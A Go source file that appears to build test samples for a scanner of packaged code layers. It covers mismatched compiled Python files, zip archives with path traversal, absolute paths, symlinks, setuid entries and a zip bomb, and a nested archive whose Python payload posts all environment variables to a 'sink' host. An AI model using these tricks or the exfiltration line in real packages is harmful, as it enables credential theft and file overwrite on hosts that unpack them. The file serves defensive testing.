package layers

import (
	"bytes"
	"encoding/binary"
	"io/fs"
	"strings"
)

// packing are attacks by how the archive or a compiled file is made.
func packing() []Sample {
	honest := File{"python/acme/__init__.py", "x = 1\n", 0}
	raw := func(name string, zip []byte) Sample {
		return Sample{Name: name, Technique: "T22", Layers: [][]byte{zip}, Runtime: py, Want: ids("archive-trick", "duplicate-entry")}
	}
	z := Zip(honest)
	return []Sample{
		// T16: compiled Python that is not its source.
		one("T16/python/unchecked", py, ids("pyc-mismatch"), File{"python/acme/a.py", "x = 1\n", 0}, File{"python/acme/__pycache__/a.cpython-312.pyc", pyc(1, 0, 0), 0}),
		one("T16/python/sourceless", py, ids("pyc-mismatch"), File{"python/acme/__init__.pyc", pyc(0, 0, 6), 0}),
		one("T16/python/among-others", py, ids("pyc-mismatch"), File{"python/acme/a.py", "x = 1\n", 0}, File{"python/acme/b.py", "y = 1\n", 0}, File{"python/acme/__pycache__/b.cpython-312.pyc", pyc(0, 1767323046, 6), 0}, File{"python/acme/__pycache__/a.cpython-312.pyc", pyc(1, 0, 0), 0}),
		one("T16/python/size", py, ids("pyc-mismatch"), File{"python/acme/a.py", "x = 1\n", 0}, File{"python/acme/__pycache__/a.cpython-312.pyc", pyc(0, 1767323046, 4096), 0}),
		// T22: archives that readers disagree about.
		raw("T22/zip/leaves-root", Zip(honest, File{"../../tmp/x", "y", 0})),
		raw("T22/zip/absolute", Zip(honest, File{"/etc/x", "y", 0})),
		raw("T22/zip/duplicate", Zip(honest, File{"python/acme/__init__.py", "x = 2\n", 0})),
		raw("T22/zip/through-link", Zip(File{"python", "/tmp", fs.ModeSymlink | 0o777}, honest)),
		raw("T22/zip/link-out", Zip(honest, File{"python/up", "../../../../var/task", fs.ModeSymlink | 0o777})),
		raw("T22/zip/prepended", append([]byte("#!/bin/sh\nexit 0\n"), z...)),
		raw("T22/zip/trailing", append(bytes.Clone(z), "more"...)),
		raw("T22/zip/header-differs", bytes.Replace(z, []byte("python/acme/__init__.py"), []byte("python/acme/__main__.py"), 1)),
		raw("T22/zip/setuid", Zip(honest, File{"bin/su", "\x7fELF", fs.ModeSetuid | 0o755})),
		raw("T22/zip/case", Zip(honest, File{"python/Acme/__init__.py", "x = 2\n", 0})),
		raw("T22/zip/bomb", Zip(honest, File{"python/big.bin", strings.Repeat("\x00", 64<<20), 0})),
		raw("T22/zip/backslash", Zip(honest, File{`python\acme\x.py`, "y", 0})),
		// T19: an archive in the archive holds the code.
		one("T19/nested/wheel", py, ids("credential-theft"), honest, File{"python/acme/data.bin", string(Zip(File{"a/__init__.py", "import os, urllib.request\nurllib.request.urlopen('https://" + sink + "', data=repr(dict(os.environ)).encode())\n", 0})), 0}),
		// T23: two builds that differ in what they do.
		one("T23/script/uname", py, ids("architecture-split"), File{"extensions/x", "#!/bin/sh\ncase \"$(uname -m)\" in aarch64) exec /opt/bin/arm64/run;; *) exec /opt/bin/x86_64/run;; esac\n", 0o755}, File{"bin/arm64/run", elf(183, ""), 0o755}, File{"bin/x86_64/run", elf(62, "process_vm_writev\x00"), 0o755}),
	}
}

// pyc is a compiled file of Python 3.12 without code: flags 0 stands for a
// timestamp, 1 for a hash that is never checked.
func pyc(flags, mtime, size uint32) string {
	b := []byte{0xcb, 0x0d, 0x0d, 0x0a}
	for _, n := range []uint32{flags, mtime, size} {
		b = binary.LittleEndian.AppendUint32(b, n)
	}
	return string(append(b, 'N'))
}

// elf is the head of a 64-bit ELF file for a machine, with strings behind it.
// It cannot be run.
func elf(machine uint16, tail string) string {
	h := make([]byte, 64)
	copy(h, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(h[16:], 2)
	binary.LittleEndian.PutUint16(h[18:], machine)
	binary.LittleEndian.PutUint32(h[20:], 1)
	binary.LittleEndian.PutUint16(h[52:], 64)
	return string(h) + tail
}
